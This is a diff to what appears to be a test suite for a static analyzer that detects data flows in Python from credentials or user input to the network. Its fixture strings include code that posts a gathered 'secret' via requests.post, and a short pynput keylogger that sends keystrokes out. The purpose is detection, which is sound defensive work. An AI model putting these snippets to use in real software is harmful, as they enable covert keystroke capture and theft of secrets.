@@ -62,3 +62,20 @@ test('the key that a connection is opened with is not sent', async () => {
   const { facts } = await read('import os, paramiko\nparamiko.SSHClient().connect(h, key_filename=os.path.expanduser("~/.ssh/id_rsa"))\n');
   expect(facts?.flows({ from: 'credentials', to: 'network' })).toEqual([]);
 });
+
+test.each([
+  ['a list of the module that a function fills', 'found = []\ndef send():\n    requests.post(u, json=found)\ndef fill():\n    found.append(secret)\nfill()\nsend()'],
+  ['a list of the module that a function fills, which stands below', 'found = []\nclass A:\n    def send(self):\n        requests.post(u, json=found)\nA().send()\ndef fill():\n    found.append(secret)\nfill()'],
+  ['a queue', 'import queue, threading\nq = queue.Queue()\ndef work():\n    requests.post(u, json=q.get())\nthreading.Thread(target=work).start()\nq.put(secret)'],
+])('%s hands on what is put into it', async (_, text) => {
+  expect(await sentIn(text)).toEqual(['requests.post']);
+});
+
+test('a list of one function is not that of another', async () => {
+  expect(await sentIn('def send():\n    found = []\n    requests.post(u, json=found)\ndef fill():\n    found = []\n    found.append(secret)\nfill()\nsend()')).toEqual([]);
+});
+
+test('what is typed goes to the function that is told of it', async () => {
+  const { facts } = await read('import requests\nfrom pynput.keyboard import Listener\nkeys = []\ndef told(key):\n    keys.append(str(key))\n    requests.post(u, data="".join(keys))\nwith Listener(on_press=told) as listener:\n    listener.join()\n');
+  expect(facts?.flows({ from: 'observation', to: 'network' })).toMatchObject([{ when: 'import', source: { name: 'pynput.keyboard.Listener' } }]);
+});
